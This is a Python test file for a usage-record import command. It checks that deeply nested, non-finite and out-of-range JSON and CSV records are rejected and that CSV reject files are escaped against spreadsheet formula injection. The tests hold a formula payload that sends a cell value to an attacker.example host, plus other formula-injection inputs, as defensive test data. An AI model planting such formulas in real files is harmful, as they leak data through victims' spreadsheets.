"""`tongka usage import` on hostile files: a line nested too deeply or otherwise malformed is rejected
with its reason and the import goes on; the CSV reject file cannot run as spreadsheet formulas, and
still imports again once corrected. On each backend."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from sqlalchemy import update

from tests.charging import factories as f
from tests.charging.factories import HK_PLMN
from tests.charging.test_usage_import import at, csv_file, imported, row, run, subscriber
from tongka.account.models import Line
from tongka.charging import usage_files
from tongka.money import MB


def _lines(path: Path) -> list[dict[str, object]]:
    return [json.loads(text) for text in path.read_text(encoding="utf-8").splitlines()]


def test_a_jsonl_line_nested_too_deeply_or_malformed_is_rejected_and_the_import_goes_on(
    cli, session, tmp_path
) -> None:
    line, b = subscriber(session, hk=100 * MB)
    good = {
        "record_id": "ok",
        "imsi": line.imsi,
        "plmn": HK_PLMN,
        "start": at(0),
        "end": at(5),
        "bytes_up": 1,
        "bytes_down": MB - 1,
    }
    deep = "[" * 60_000  # within the line limit; json.loads met RecursionError and ended the import
    texts = [
        deep,  # 1
        json.dumps(
            {
                **good,
                "record_id": "nest",
                "extra": [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]],
            }
        ),  # 2
        '{"record_id": "nan", "bytes_up": NaN}',  # 3
        '{"record_id": "inf", "bytes_up": -Infinity}',  # 4
        '{"record_id": "big", "bytes_up": ' + "9" * 5000 + "}",  # 5
        json.dumps({**good, "record_id": "float", "bytes_up": 1e300}),  # 6
        json.dumps(
            {**good, "record_id": "late", "end": "9999-12-31T23:59:59-10:00"}
        ),  # 7: beyond the calendar in HK
        json.dumps({**good, "record_id": "early", "start": "0001-01-01T00:00:00+14:00"}),  # 8
        json.dumps("just a string"),  # 9
        json.dumps(good),  # 10
    ]
    path = tmp_path / "usage.jsonl"
    path.write_text("\n".join(texts) + "\n")
    result = run(cli, session, str(path))

    assert result.exit_code == 1, result.output
    assert "imported 1, already imported 0, rejected 9" in result.output
    got = _lines(tmp_path / "usage.rejects.jsonl")
    assert [(g["reject_line"], g["reject_reason"]) for g in got] == [
        (n, "malformed") for n in range(1, 10)
    ]
    messages = [str(g["reject_message"]) for g in got]
    assert messages[0] == messages[1] == f"nested more than {usage_files.MAX_JSON_DEPTH} deep"
    assert messages[2].startswith("not JSON: NaN") and messages[3].startswith("not JSON: -Infinity")
    assert messages[4].startswith("not JSON")
    assert messages[5] == "bytes_up must be a whole number of bytes, 0 or more"
    assert (
        messages[6]
        == messages[7].replace("start", "end")
        == "end must be between 2000 and 2099 (UTC)"
    )
    assert messages[8] == "not a JSON object"
    assert got[0]["raw"] == deep  # the line as read, to correct
    assert set(imported(session)) == {"ok"}
    assert f.remaining(session, b["hk"]) == 99 * MB


def test_csv_numbers_and_dates_out_of_range_are_rejected_and_the_import_goes_on(
    cli, session, tmp_path
) -> None:
    line, b = subscriber(session, hk=100 * MB)
    rows = [
        [
            *row("huge", line, HK_PLMN, 0, 1)[:6],
            "9" * 5000,
            "0",
        ],  # int() refused it with a ValueError that ended the import
        [*row("late", line, HK_PLMN, 0, 1)[:5], "9999-12-31T23:59:59-10:00", "0", "1"],
        row("ok", line, HK_PLMN, 0, MB),
    ]
    result = run(cli, session, str(csv_file(tmp_path / "usage.csv", rows)))
    assert result.exit_code == 1, result.output
    assert "imported 1, already imported 0, rejected 2" in result.output
    with (tmp_path / "usage.rejects.csv").open(newline="", encoding="utf-8") as f_:
        rejects = list(csv.DictReader(f_))
    assert [(r["record_id"], r["reject_message"]) for r in rejects] == [
        ("huge", "bytes_up is more than 1,125,899,906,842,624 bytes"),
        ("late", "end must be between 2000 and 2099 (UTC)"),
    ]
    assert f.remaining(session, b["hk"]) == 99 * MB


def test_the_csv_reject_file_runs_no_formulas_and_imports_again_once_corrected(
    cli, session, tmp_path
) -> None:
    line, b = subscriber(session, hk=100 * MB)
    line.status = "suspended"
    session.commit()
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    rows = [
        [formula, "", line.hk_number, HK_PLMN, at(0), at(5), "0", str(MB)],  # line_not_active
        ["@SUM(1+1)", line.imsi or "", "", HK_PLMN, at(0), at(5), "-5", "0"],  # malformed
        ["-2+3", line.imsi or "", "", HK_PLMN, at(10), at(15), "0", str(MB)],  # line_not_active
    ]
    assert run(cli, session, str(csv_file(tmp_path / "usage.csv", rows))).exit_code == 1

    rejects = tmp_path / "usage.rejects.csv"
    with rejects.open(newline="", encoding="utf-8") as f_:
        cells = [cell for record in list(csv.reader(f_))[1:] for cell in record]
    assert not [
        c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]  # nothing a spreadsheet would run
    assert {"'" + formula, "'" + line.hk_number, "'@SUM(1+1)", "'-5", "'-2+3"} <= set(cells)

    # Corrected (the line active again, the bytes fixed) and imported as it is: the values as first read.
    session.execute(update(Line).where(Line.id == line.id).values(status="active"))
    session.commit()
    rejects.write_text(rejects.read_text(encoding="utf-8").replace("'-5,", "0,"), encoding="utf-8")
    result = run(cli, session, str(rejects))
    assert result.exit_code == 0, result.output
    assert "imported 3, already imported 0, rejected 0" in result.output
    assert set(imported(session)) == {formula, "@SUM(1+1)", "-2+3"}
    assert f.remaining(session, b["hk"]) == 98 * MB


def test_cells_round_trip_through_the_escape() -> None:
    for value in [
        "",
        "a",
        "'",
        "''",
        "'a",
        "'=",
        "=1",
        "+85291234567",
        "-",
        "@",
        "\t",
        "\r",
        "''=x",
        "x=1",
    ]:
        escaped = usage_files.escape_cell(value)
        assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")
        assert usage_files.unescape_cell(escaped) == value
    # A partner's file escaped the same way reads as meant; a quote before anything else stays.
    assert [usage_files.unescape_cell(c) for c in ("'+85291234567", "'abc", "O'Brien")] == [
        "+85291234567",
        "'abc",
        "O'Brien",
    ]
